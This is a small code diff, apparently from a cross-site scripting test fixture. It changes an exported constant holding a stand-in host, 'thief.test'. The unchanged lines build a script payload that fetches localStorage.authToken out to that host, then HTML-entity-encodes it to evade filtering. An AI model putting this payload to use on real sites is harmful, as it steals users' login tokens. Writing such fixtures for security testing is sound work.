@@ -3,7 +3,7 @@
  * dialogue and carry the login away.
  */
 
-export const thief = "https://thief.test";
+const thief = "https://thief.test";
 const payload = `window.ran=1;alert(1);fetch('${thief}/'+localStorage.authToken)`;
 const encoded = [...payload].map((character) => `&#${character.charCodeAt(0)};`).join("");
 
